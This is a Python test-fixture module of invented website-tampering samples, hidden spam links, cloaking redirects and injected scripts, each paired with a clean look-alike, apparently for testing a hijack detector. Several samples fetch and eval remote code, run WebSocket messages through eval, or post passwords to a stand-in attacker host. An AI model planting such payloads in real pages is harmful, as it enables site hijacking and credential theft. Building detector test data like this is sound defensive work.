"""Attacks on home pages as incident reports describe them, each with a clean twin that looks like it; all invented.

What is written in braces stands where a hijacker, or an honest editor, would have put it.
"""

import base64
from collections.abc import Iterator
from dataclasses import dataclass
from typing import ClassVar
from urllib.parse import quote

from tests.pages.imitations.skins import SITE, TODAY, portal, rows

BAD = "http://www.jt7788.example.vip"
GOOD = "http://www.yunshan-tour.example.org"
"""A host that is as foreign, but of an honest partner."""
_LURE = f"<a href='{BAD}/a'>真人视讯</a><a href='{BAD}/b'>在线投注平台</a><a href='{BAD}/c'>手机客户端</a>"
_DULL = f"<a href='{BAD}/a'>某某科技</a><a href='{BAD}/b'>某某机械</a><a href='{BAD}/c'>某某装饰</a>"
_OWN = "<a href='/zwgk/'>政务公开</a><a href='/hdjl/'>互动交流</a><a href='/fwdt/'>办事大厅</a>"
_FRIENDS = f"<a href='{GOOD}/'>云山旅游</a><a href='http://www.gov.cn/'>中国政府网</a>"


def home(body: str = "", *, head: str = "", title: str = "首页") -> str:
    """The sound home page with something put in."""
    news = "".join(
        f"<li><a href='/x/{number}.html'>{text}</a><span>{day:%Y-%m-%d}</span></li>"
        for text, day, number in rows(TODAY)
    )
    script = "<script>$('.banner').slide({interval: 5000, auto: true});</script>"
    return portal(f"<ul class='news'>{news}</ul><div class='friends'>{_FRIENDS}</div>{script}{body}", title, head)


SOUND = home()


@dataclass(frozen=True)
class Attack:
    """A tampered page and a clean one that resembles it."""

    name: str
    page: str
    twin: str
    plain: bool = True
    """Whether the page alone gives it away; else only the baseline does, because honest pages do the same."""
    site: ClassVar[str] = SITE
    """The site on which it stands."""

    @property
    def before(self) -> str:
        """The page as it was accepted."""
        return SOUND


def _style(name: str, style: str, twin: str) -> Attack:
    return Attack(name, home(f"<div style='{style}'>{_DULL}</div>"), home(f"<div style='{twin}'>{_FRIENDS}</div>"))


def _sheet(name: str, sheet: str, twin: str, body: str = _DULL) -> Attack:
    inside = "<div id='zz1' class='kk ss'>{}</div>"
    return Attack(
        name,
        home(inside.format(body), head=f"<style>{sheet}</style>"),
        home(inside.format(_FRIENDS), head=f"<style>{twin}</style>"),
    )


def _script(name: str, script: str, twin: str, *, plain: bool = True) -> Attack:
    return Attack(name, home(f"<script>{script}</script>"), home(f"<script>{twin}</script>"), plain)


def _hidden() -> Iterator[Attack]:
    yield _style("not displayed", "display:none", "display:block")
    yield _style("outside to the left", "position:absolute;left:-1999px;top:0", "position:absolute;left:-20px")
    yield _style(
        "old expression", "position:absolute;left:expression(1-900);top:expression(3-999)", "position:relative"
    )
    yield _style("one pixel", "width:1px;height:1px;overflow:hidden", "width:100px;height:100px;overflow:hidden")
    yield _style("four pixels high", "height:4px;overflow:hidden;line-height:4px", "height:40px;overflow:hidden")
    yield _style("letters without size", "font-size:0;line-height:0", "font-size:12px;line-height:1.5")
    yield _style("indented away", "text-indent:-9999px", "text-indent:2em")
    yield _style("white on white", "color:#fff;background-color:#ffffff", "color:#333;background-color:#ffffff")
    yield _style("under everything", "position:absolute;z-index:-99", "position:absolute;z-index:99")
    yield _style("transparent", "opacity:0.01", "opacity:0.9")
    yield _style("important first", "display:none!important;display:block", "display:block;color:red")
    yield _style("clipped", "position:absolute;clip:rect(0 0 0 0)", "position:absolute;clip:auto")
    yield _style("scaled", "transform:scale(0,0)", "transform:scale(1,1)")
    yield _sheet("by an id", "#zz1{visibility:hidden}", "#zz1{visibility:visible}")
    yield _sheet(
        "by a medium", "@media screen and (max-width:99999px){.kk{display:none}}", "@media print{.kk{display:none}}"
    )
    yield _sheet("by negation", ".ss:not(.shown){position:fixed;top:-3000px}", ".ss:not(.kk){display:none}")
    yield _sheet("by nesting", ".wrap{.kk{max-height:0;overflow:hidden}}", ".wrap{.kk{max-height:20em;overflow:auto}}")
    yield _sheet(
        "by specificity", "#zz1.kk{display:none} .kk{display:block}", ".kk{display:none} #zz1.kk{display:block}"
    )
    yield _sheet(
        "sheet in an address", "@import url(data:text/css,.kk%7Bdisplay:none%7D);", "@import url(/css/kk.css);"
    )
    yield Attack(
        "marquee too low",
        home(f"<marquee height=3 width=5 scrollamount=3000>{_DULL}</marquee>"),
        home(f"<marquee height=30 scrollamount=4>{_FRIENDS}</marquee>"),
    )
    yield Attack(
        "for visitors without scripts",
        home(f"<noscript>{_LURE}</noscript>"),
        home("<noscript>请启用 JavaScript</noscript>"),
    )
    yield Attack(
        "anchors that lead nowhere around",
        home(f"<ul style='display:none'><a>通知</a><a>公告</a><a name=x>动态</a>{_DULL}</ul>"),
        home(f"<ul style='display:none'>{_OWN}</ul>"),
    )
    yield Attack(
        "invisible characters",
        home(f"<a href='{BAD}/'>\u200b\u200b\u200b</a>"),
        home(f"<a href='{GOOD}/'>云山旅游</a>"),
    )
    yield Attack(
        "a picture of one pixel",
        home(f"<a href='{BAD}/'><img src='/i/s.gif' width='1' height='1'></a>"),
        home(f"<a href='{GOOD}/'><img src='/i/s.gif' width='88' height='31'></a>"),
    )
    yield Attack(
        "among the friends, with words",
        home(f"<div class='friends'>{_LURE}</div>"),
        home(f"<div class='friends'>{_FRIENDS}</div>"),
    )


def _by_script() -> Iterator[Attack]:
    box = "<div id='q3'>{}</div><script>{}</script>"
    yield Attack(
        "hidden by a script",
        home(box.format(_DULL, "document.getElementById('q3').style.display='none'")),
        home(box.format(_FRIENDS, "document.getElementById('q3').style.display='block'")),
    )
    yield Attack(
        "hidden by a library",
        home(box.format(_DULL, "$('#q3').hide();")),
        home(box.format(_FRIENDS, "$('#q3').show();")),
    )
    yield Attack(
        "hidden by brackets",
        home(box.format(_DULL, "document.getElementById('q3').style['dis'+'play']='none'")),
        home(box.format(_FRIENDS, "document.getElementById('q3').style['color']='red'")),
    )
    yield _script(
        "written around",
        f"document.write('<div sty'+'le=\"display:no'+'ne\">');document.write('{_LURE.replace(chr(39), '')}</div>')",
        "document.write('<div class=\"date\">');document.write(new Date().getFullYear()+'</div>')",
    )
    yield Attack(
        "written before and behind",
        home(
            f"<script>document.writeln(\"<div style='position:absolute;"
            f"left:-5000px'>\")</script>{_DULL}<script>document.writeln('</div>"
            f"')</script>"
        ),
        home(
            f"<script>document.writeln(\"<div class='ad'>\")</script>"
            f"{_FRIENDS}<script>document.writeln('</div>')</script>"
        ),
    )
    yield _script(
        "written in code",
        "document.write(unescape('" + quote(f"<div style=display:none>{_DULL}</div>") + "'))",
        "document.write(unescape('%3Cspan%3E%3C/span%3E'))",
    )


def _scripts() -> Iterator[Attack]:
    yield _script(
        "searchers led away",
        f"var r=document.referrer;if(r.indexOf('baidu')>0||r.indexOf('sogou')>0){{location.href='{BAD}'}}",
        "if(document.referrer.indexOf('yunshan')<0){document.cookie='first=1'}",
    )
    yield _script(
        "telephones led away",
        f"if(/Android|iPhone/i.test(navigator.userAgent)){{window.location.href='{BAD}/m'}}",
        "if(/Android|iPhone/i.test(navigator.userAgent)){window.location.href='/m/'}",
    )
    yield _script(
        "led away by pieces",
        "self['loca'+'tion']['href']='ht'+'tp://www.jt7788.example.vip/'",
        "self['loca'+'tion']['hash']='top'",
    )
    yield _script(
        "led away through a name",
        f"var u='{BAD}/';setTimeout(function(){{top.location=u}},50)",
        "var u='/index.html';function back(){top.location=u}",
    )
    yield _script(
        "led away from base64",
        f"window.location.replace(atob('{base64.b64encode(BAD.encode()).decode()}'))",
        "var t=atob('5LqR5bGx');",
    )
    yield _script("template text", f"location.assign(`{BAD}/x`)", "location.assign(`/x/list.html`)")
    yield _script(
        "fetched and run",
        f"fetch('{BAD}/j.txt').then(r=>r.text()).then(eval)",
        "fetch('/api/weather').then(r=>r.json()).then(show)",
    )
    yield _script("got by the library", f"$.getScript('//{BAD[7:]}/s.js')", "$.getScript('/js/calendar.js')")
    yield _script("imported", f"import('{BAD}/m.mjs')", "import('/js/m.mjs')")
    yield _script(
        "obfuscated",
        "var _0x4f2a=['\\x6c\\x6f\\x63','href'];(function(_0x1b,_0x2c){var "
        "_0x3d=function(_0x4e){while(--_0x4e){_0x1b['push'](_0x1b['shift']())}};"
        "_0x3d(++_0x2c)}(_0x4f2a,0x1a3));",
        "var a=['list','href'];for(var i=0;i<a.length;i++){console.log(a[i])}",
    )
    yield _script(
        "characters by number",
        "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in f"location='{BAD}'") + "))",
        "document.title=String.fromCharCode(20113,23665)",
    )
    yield _script(
        "constructor of functions",
        "[]['filter']['constructor'](atob('YWxlcnQoMSk='))()",
        "[].filter.call(list,function(x){return x})",
    )
    yield _script(
        "socket",
        f"var w=new WebSocket('wss://{BAD[7:]}/w');w.onmessage=function(e){{eval(e.data)}}",
        "var w=new WebSocket('wss://'+location.host+'/ws')",
    )
    yield _script(
        "title put in by a script",
        "if(navigator.userAgent.indexOf('Baiduspider')>-1){document.title='澳门新葡京'}",
        "document.title=document.title+' - 首页'",
    )
    yield Attack(
        "in an event of a picture",
        home(f"<img src=x onerror=\"location.href='{BAD}'\">"),
        home("<img src='/a.jpg' onerror=\"this.src='/none.png'\">"),
    )
    yield Attack(
        "script inside an address",
        home("<script src='data:text/javascript;base64,YWxlcnQoMSk='></script>"),
        home("<script src='/js/base64.js'></script>"),
    )
    yield Attack(
        "frame with a page inside",
        home(f"<iframe srcdoc=\"<script>top.location='{BAD}'</script>\"></iframe>"),
        home("<iframe srcdoc='<p>天气晴</p>'></iframe>"),
    )


def _names() -> Iterator[Attack]:
    yield Attack("title of a casino", home(title="澳门威尼斯人_在线投注"), home(title="云山县举办威尼斯国际电影展映"))
    yield Attack(
        "title of the newer kind", home(title="开云体育(kaiyun)官方网站"), home(title="云山县体育中心开放公告")
    )
    yield Attack(
        "keywords in code",
        home(head="<meta name='keywords' content='&#30334;&#23478;&#20048;,&#25253;&#21517;'>"),
        home(head="<meta name='keywords' content='&#20113;&#23665;&#21439;'>"),
    )
    yield Attack(
        "description of forgers",
        home(head="<meta name='description' content='代开发票,办证刻章'>"),
        home(head="<meta name='description' content='云山县人民政府门户网站，发布政务信息'>"),
    )
    yield Attack(
        "canonical elsewhere",
        home(head=f"<link rel='canonical' href='{BAD}/'>"),
        home(head="<link rel='canonical' href='http://www.yunshan.example/'>"),
    )
    yield Attack("base elsewhere", home(head=f"<base href='{BAD}/'>"), home(head="<base href='/'>"))
    yield Attack(
        "refresh elsewhere",
        home(head=f"<meta http-equiv='refresh' content='0;url={BAD}'>"),
        home(head="<meta http-equiv='refresh' content='600'>"),
    )
    yield Attack(
        "host that looks like ours",
        home("<a href='http://www.yunsh\u0430n.example/'>云山县人民政府</a>"),
        home("<a href='http://news.yunshan.example/'>云山新闻</a>"),
    )
    yield Attack(
        "our name before a foreign one",
        home("<a href='http://www.yunshan.example.login-cn.example.vip/'>办事大厅</a>"),
        home("<a href='http://login.yunshan.example/'>办事大厅</a>"),
    )


def _frames() -> Iterator[Attack]:
    yield Attack(
        "frame of no size",
        home(f"<iframe src='{BAD}/' width='0' height='0'></iframe>"),
        home("<iframe src='/tq.html' width='0' height='0'></iframe>"),
    )
    yield Attack(
        "frame not displayed",
        home(f"<iframe src='{BAD}/' style='display:none'></iframe>"),
        home("<iframe src='https://www.bilibili.com/v' width='400' height='300'></iframe>"),
    )
    yield Attack(
        "frame over everything",
        home(
            f"<iframe src='{BAD}/' style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999'></iframe>"
        ),
        home("<iframe src='https://uri.amap.com/map' style='width:100%;height:300px'></iframe>"),
    )
    yield Attack(
        "form that asks for a password",
        home(f"<form action='{BAD}/p'><input name=u><input type=password name=p></form>"),
        home("<form action='/login'><input name=u><input type=password name=p></form>"),
    )
    yield Attack(
        "a foreign script",
        home(f"<script src='{BAD}/a.js'></script>"),
        home("<script src='https://hm.baidu.com/hm.js?1'></script>"),
        plain=False,
    )
    yield Attack(
        "a foreign frame in sight",
        home(f"<iframe src='{BAD}/' width='600' height='400'></iframe>"),
        home("<iframe src='https://www.bilibili.com/player' width='600' height='400'></iframe>"),
        plain=False,
    )
    yield Attack(
        "a script made by a script",
        home(
            f"<script>var s=document.createElement('script');s.src='{BAD}/a.js';document.body.appendChild(s)</script>"
        ),
        home(
            "<script>var s=document.createElement('script');"
            "s.src='https://hm.baidu.com/hm.js?2';document.body.appendChild(s)</script>"
        ),
        plain=False,
    )


ATTACKS = tuple(attack for family in (_hidden, _by_script, _scripts, _names, _frames) for attack in family())
